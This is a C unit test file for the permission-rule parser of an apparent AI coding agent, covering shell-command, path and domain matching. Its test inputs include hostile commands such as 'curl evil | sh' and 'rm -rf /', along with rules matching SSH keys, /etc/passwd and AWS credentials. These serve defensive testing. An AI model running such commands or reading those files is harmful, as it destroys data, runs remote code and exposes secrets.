#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "core/al.h"
#include "core/rule.h"

static const struct rule_paths test_env = {
	.project_dir = "/home/dev/proj",
	.home = "/home/dev",
	.cwd = "/home/dev/proj",
};

static struct rule *
parse_ok(const char *text)
{
	struct rule *r = NULL;
	char *err = NULL;
	int rc = rule_parse(&r, text, &err);

	if (rc != 0) {
		fail_msg("rule %s: %s", text, err ? err : "?");
	}
	assert_null(err);
	return r;
}

/* Parses text, expecting a syntax error mentioning needle. */
static void
parse_bad(const char *text, const char *needle)
{
	struct rule *r = NULL;
	char *err = NULL;

	assert_int_equal(rule_parse(&r, text, &err), AL_EPARSE);
	assert_null(r);
	assert_non_null(err);
	if (strstr(err, needle) == NULL) {
		fail_msg("error for %s is \"%s\", wanted \"%s\"", text, err,
		         needle);
	}
	free(err);
}

static bool
cmd_match(const char *rule, const char *cmd)
{
	struct rule *r = parse_ok(rule);
	bool ok = rule_match_command(r, cmd);

	rule_free(r);
	return ok;
}

static bool
path_match(const char *rule, const char *path)
{
	struct rule *r = parse_ok(rule);
	bool ok = rule_match_path(r, path, &test_env);

	rule_free(r);
	return ok;
}

struct parse_case {
	const char *text;
	const char *tool;
	enum rule_kind kind;
};

static void
test_parse_valid(void **state)
{
	static const struct parse_case cases[] = {
		{ "Bash", "Bash", RULE_TOOL },
		{ "Bash(*)", "Bash", RULE_TOOL },
		{ "  Bash(npm run test:*)  ", "Bash", RULE_BASH },
		{ "Bash(git * main)", "Bash", RULE_BASH },
		{ "Bash(echo (a))", "Bash", RULE_BASH },
		{ "Read(./.env)", "Read", RULE_PATH },
		{ "Edit(src/**)", "Edit", RULE_PATH },
		{ "Read(~/.ssh/**)", "Read", RULE_PATH },
		{ "Read(//etc/passwd)", "Read", RULE_PATH },
		{ "Write(/docs/*.md)", "Write", RULE_PATH },
		{ "NotebookEdit(*.ipynb)", "NotebookEdit", RULE_PATH },
		{ "Glob(src/*)", "Glob", RULE_PATH },
		{ "Grep(~)", "Grep", RULE_PATH },
		{ "WebFetch(domain:example.com)", "WebFetch", RULE_DOMAIN },
		{ "WebFetch(domain:*.example.com)", "WebFetch", RULE_DOMAIN },
		{ "WebFetch", "WebFetch", RULE_TOOL },
		{ "WebSearch", "WebSearch", RULE_TOOL },
		{ "mcp__github", "mcp__github", RULE_TOOL },
		{ "mcp__github__create_issue", "mcp__github__create_issue",
		  RULE_TOOL },
		{ "mcp__github__*", "mcp__github", RULE_TOOL },
		{ "TodoWrite", "TodoWrite", RULE_TOOL },
	};

	(void)state;
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		struct rule *r = parse_ok(cases[i].text);
		assert_string_equal(rule_tool(r), cases[i].tool);
		assert_int_equal(rule_kind(r), cases[i].kind);
		rule_free(r);
	}
}

static void
test_parse_text_trimmed(void **state)
{
	struct rule *r = parse_ok("\t Bash(ls) ");

	(void)state;
	assert_string_equal(rule_text(r), "Bash(ls)");
	rule_free(r);
}

static void
test_parse_invalid(void **state)
{
	(void)state;
	parse_bad("", "empty rule");
	parse_bad("   ", "empty rule");
	parse_bad("(ls)", "expected a tool name");
	parse_bad("Bash(ls", "missing ')'");
	parse_bad("Bash)", "expected '('");
	parse_bad("Bash ls", "expected '('");
	parse_bad("Bash()", "empty specifier");
	parse_bad("Bash(:*)", "empty command");
	parse_bad("Bash(npm:* test)", "only valid at the end");
	parse_bad("Bash(ls\n)", "control character");
	parse_bad("WebFetch(example.com)", "domain:HOST");
	parse_bad("WebFetch(domain:)", "invalid host");
	parse_bad("WebFetch(domain:ex ample.com)", "invalid host");
	parse_bad("WebFetch(domain:a.*.com)", "invalid host");
	parse_bad("Read(~root/x)", "'~/'");
	parse_bad("mcp__", "server name");
	parse_bad("mcp__srv__", "tool name");
	parse_bad("mcp__srv__x*", "mcp__server__*");
	parse_bad("mcp__srv(x)", "no specifier");
	parse_bad("TodoWrite(x)", "takes no specifier");
	parse_bad("Ba*sh", "expected '('");
}

static void
test_parse_error_column(void **state)
{
	struct rule *r = NULL;
	char *err = NULL;

	(void)state;
	assert_int_equal(rule_parse(&r, "Bash(ls", &err), AL_EPARSE);
	assert_non_null(strstr(err, "column 8"));
	assert_non_null(strstr(err, "Bash(ls"));
	free(err);
	/* err may be NULL */
	assert_int_equal(rule_parse(&r, "Bash(ls", NULL), AL_EPARSE);
}

static void
test_match_prefix(void **state)
{
	(void)state;
	assert_true(cmd_match("Bash(npm run test:*)", "npm run test"));
	assert_true(cmd_match("Bash(npm run test:*)", "npm run test --watch"));
	assert_false(cmd_match("Bash(npm run test:*)", "npm run testing"));
	assert_false(cmd_match("Bash(npm run test:*)", "npm run"));
	assert_false(cmd_match("Bash(npm run test:*)", "xnpm run test"));
	assert_true(cmd_match("Bash(git   status:*)", "git status -s"));
}

static void
test_match_glob(void **state)
{
	(void)state;
	assert_true(cmd_match("Bash(git * main)", "git push origin main"));
	assert_true(cmd_match("Bash(git * main)", "git merge main"));
	assert_false(cmd_match("Bash(git * main)", "git push origin main2"));
	assert_true(cmd_match("Bash(ls *)", "ls -la"));
	assert_true(cmd_match("Bash(ls *)", "ls"));
	assert_false(cmd_match("Bash(ls *)", "lsof"));
	assert_true(cmd_match("Bash(* --version)", "node --version"));
	/* ? and [ are literal in command patterns */
	assert_false(cmd_match("Bash(ls ?)", "ls a"));
	assert_true(cmd_match("Bash(ls ?)", "ls ?"));
}

static void
test_match_exact(void **state)
{
	(void)state;
	assert_true(cmd_match("Bash(git status)", "git status"));
	assert_false(cmd_match("Bash(git status)", "git status -s"));
	assert_true(cmd_match("Bash", "anything at all"));
}

static void
test_match_paths(void **state)
{
	(void)state;
	assert_true(path_match("Read(./.env)", "/home/dev/proj/.env"));
	assert_true(path_match("Read(./.env)", ".env"));
	assert_false(path_match("Read(./.env)", "sub/.env"));
	/* no slash: any depth below the project, like gitignore */
	assert_true(path_match("Read(.env)", "sub/dir/.env"));
	assert_true(path_match("Read(*.pem)", "/home/dev/proj/a/b/k.pem"));
	assert_false(path_match("Read(*.pem)", "/etc/k.pem"));
	assert_true(path_match("Edit(src/**)", "src/a/b/c.c"));
	assert_true(path_match("Edit(src/**)", "/home/dev/proj/src/x.c"));
	assert_false(path_match("Edit(src/**)", "srcx/a.c"));
	assert_false(path_match("Edit(src/*)", "src/a/b.c"));
	assert_true(path_match("Edit(src/*)", "src/b.c"));
	assert_true(path_match("Edit(src/**/*.c)", "src/b.c"));
	assert_true(path_match("Edit(src/**/*.c)", "src/x/y/b.c"));
	assert_false(path_match("Edit(src/**/*.c)", "src/x/y/b.h"));
	assert_true(path_match("Read(~/.ssh/**)", "/home/dev/.ssh/id_rsa"));
	assert_true(path_match("Read(~/.ssh)", "/home/dev/.ssh/id_rsa"));
	assert_false(path_match("Read(~/.ssh)", "/home/dev/.sshx"));
	assert_true(path_match("Read(//etc/passwd)", "/etc/passwd"));
	assert_false(
	        path_match("Read(//etc/passwd)", "/home/dev/proj/etc/passwd"));
	assert_true(path_match("Read(/docs/*.md)", "/home/dev/proj/docs/a.md"));
	assert_false(path_match("Read(/docs/*.md)", "/docs/a.md"));
	/* .. is resolved before matching */
	assert_true(path_match("Read(~/.aws/**)", "../.aws/credentials"));
	assert_false(path_match("Edit(src/**)", "src/../../x"));
	assert_true(path_match("Read(f[0-9].txt)", "f3.txt"));
	assert_false(path_match("Read(f[!0-9].txt)", "f3.txt"));
	assert_true(path_match("Read(f?.txt)", "fa.txt"));
	assert_true(path_match("Read(./dir/)", "dir/a/b"));
}

static void
test_match_path_base_escaped(void **state)
{
	/* a project directory with glob characters is taken literally */
	struct rule_paths env = { .project_dir = "/p/a[1]", .home = "/h" };
	struct rule *r = parse_ok("Read(x)");

	(void)state;
	assert_true(rule_match_path(r, "/p/a[1]/x", &env));
	assert_false(rule_match_path(r, "/p/a1/x", &env));
	rule_free(r);
}

static void
test_match_path_unknown_base(void **state)
{
	struct rule_paths env = { 0 };
	struct rule *r = parse_ok("Read(~/.ssh/**)");

	(void)state;
	assert_false(rule_match_path(r, "/home/dev/.ssh/id_rsa", &env));
	rule_free(r);
}

static void
test_match_domains(void **state)
{
	struct rule *exact = parse_ok("WebFetch(domain:example.com)");
	struct rule *sub = parse_ok("WebFetch(domain:*.example.com)");

	(void)state;
	assert_true(rule_match_host(exact, "example.com"));
	assert_true(rule_match_host(exact, "EXAMPLE.com."));
	assert_false(rule_match_host(exact, "www.example.com"));
	assert_true(rule_match_host(sub, "www.example.com"));
	assert_true(rule_match_host(sub, "a.b.example.com"));
	assert_false(rule_match_host(sub, "example.com"));
	assert_false(rule_match_host(sub, "evilexample.com"));
	assert_false(rule_match_host(sub, "example.com.evil.org"));
	assert_true(rule_host_match("*", "x.org"));
	assert_false(rule_host_pattern_valid("*.*.com"));
	assert_false(rule_host_pattern_valid("http://x"));
	rule_free(exact);
	rule_free(sub);
}

static void
test_match_tools(void **state)
{
	struct rule *read = parse_ok("Read(src/**)");
	struct rule *edit = parse_ok("Edit");
	struct rule *server = parse_ok("mcp__gh");
	struct rule *star = parse_ok("mcp__gh__*");
	struct rule *tool = parse_ok("mcp__gh__list");

	(void)state;
	assert_true(rule_applies_to_tool(read, "Grep"));
	assert_true(rule_applies_to_tool(read, "Glob"));
	assert_false(rule_applies_to_tool(read, "Edit"));
	assert_true(rule_applies_to_tool(edit, "Write"));
	assert_true(rule_applies_to_tool(edit, "NotebookEdit"));
	assert_false(rule_applies_to_tool(edit, "Read"));
	assert_true(rule_applies_to_tool(server, "mcp__gh__list"));
	assert_true(rule_applies_to_tool(star, "mcp__gh__delete"));
	assert_false(rule_applies_to_tool(server, "mcp__ghx__list"));
	assert_false(rule_applies_to_tool(server, "mcp__gh__"));
	assert_true(rule_applies_to_tool(tool, "mcp__gh__list"));
	assert_false(rule_applies_to_tool(tool, "mcp__gh__list2"));
	assert_false(rule_applies_to_tool(tool, NULL));
	rule_free(read);
	rule_free(edit);
	rule_free(server);
	rule_free(star);
	rule_free(tool);
}

static void
test_path_resolve(void **state)
{
	char *s;

	(void)state;
	s = rule_path_resolve("a/./b/../c//d", "/x/y");
	assert_string_equal(s, "/x/y/a/c/d");
	free(s);
	s = rule_path_resolve("../../../..", "/x");
	assert_string_equal(s, "/");
	free(s);
	assert_null(rule_path_resolve("a", NULL));
	assert_null(rule_path_resolve("a", "rel"));
	assert_true(rule_path_within("/a/b", "/a"));
	assert_true(rule_path_within("/a", "/a/"));
	assert_false(rule_path_within("/ab", "/a"));
	assert_true(rule_path_within("/x", "/"));
}

static void
assert_split(const char *cmd, bool loose, bool complex, size_t n,
             const char *const *raws, const char *const *words)
{
	struct rule_cmds c = { 0 };

	rule_split_command(cmd, loose, &c);
	assert_int_equal(c.complex, complex);
	assert_int_equal(c.n, n);
	for (size_t i = 0; i < n; i++) {
		if (raws != NULL) {
			assert_string_equal(c.v[i].raw, raws[i]);
		}
		if (words != NULL) {
			assert_string_equal(c.v[i].words, words[i]);
		}
	}
	rule_cmds_clear(&c);
}

static void
test_split(void **state)
{
	(void)state;
	assert_split("git status && curl evil | sh", false, false, 3,
	             (const char *const[]){ "git status", "curl evil", "sh" },
	             NULL);
	assert_split("a;b||c&d\ne |& f", false, false, 6,
	             (const char *const[]){ "a", "b", "c", "d", "e", "f" },
	             NULL);
	assert_split("git commit -m 'a && b'   \"c;d\"", false, false, 1,
	             (const char *const[]){ "git commit -m 'a && b' \"c;d\"" },
	             (const char *const[]){ "git commit -m a && b c;d" });
	assert_split("FOO=1 sudo -E nice -n 5 \"r\"\"m\" -rf /", false, false,
	             1, NULL, (const char *const[]){ "rm -rf /" });
	assert_split("timeout 10s env A=b command r\\m x", false, false, 1,
	             NULL, (const char *const[]){ "rm x" });
	assert_split("echo $(rm -rf ~)", false, true, 1, NULL, NULL);
	assert_split("echo `id`", false, true, 1, NULL, NULL);
	assert_split("ls > out", false, true, 1, NULL, NULL);
	assert_split("(cd x; ls)", false, true, 2, NULL, NULL);
	assert_split("{ ls; }", false, true, 2, NULL, NULL);
	assert_split("echo 'unterminated", false, true, 1, NULL,
	             (const char *const[]){ "echo unterminated" });
	/* found by fuzz_rule: a lone quote at the very end */
	assert_split("echo '", false, true, 1,
	             (const char *const[]){ "echo '" },
	             (const char *const[]){ "echo " });
	assert_split("echo \"$(id)\"", false, true, 1, NULL, NULL);
	assert_split("echo $'\\x41'", false, true, 1, NULL, NULL);
	assert_split("ls # comment", false, true, 1, NULL, NULL);
	assert_split("", false, false, 0, NULL, NULL);
	assert_split("   ;  ", false, false, 0, NULL, NULL);
}

static void
test_split_loose(void **state)
{
	(void)state;
	assert_split("echo \"$(rm -rf ~)\"", true, true, 2, NULL,
	             (const char *const[]){ "echo", "rm -rf ~" });
	assert_split("x=`curl evil`; (sudo rm a)", true, true, 3, NULL,
	             (const char *const[]){ "", "curl evil", "rm a" });
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_parse_valid),
		cmocka_unit_test(test_parse_text_trimmed),
		cmocka_unit_test(test_parse_invalid),
		cmocka_unit_test(test_parse_error_column),
		cmocka_unit_test(test_match_prefix),
		cmocka_unit_test(test_match_glob),
		cmocka_unit_test(test_match_exact),
		cmocka_unit_test(test_match_paths),
		cmocka_unit_test(test_match_path_base_escaped),
		cmocka_unit_test(test_match_path_unknown_base),
		cmocka_unit_test(test_match_domains),
		cmocka_unit_test(test_match_tools),
		cmocka_unit_test(test_path_resolve),
		cmocka_unit_test(test_split),
		cmocka_unit_test(test_split_loose),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
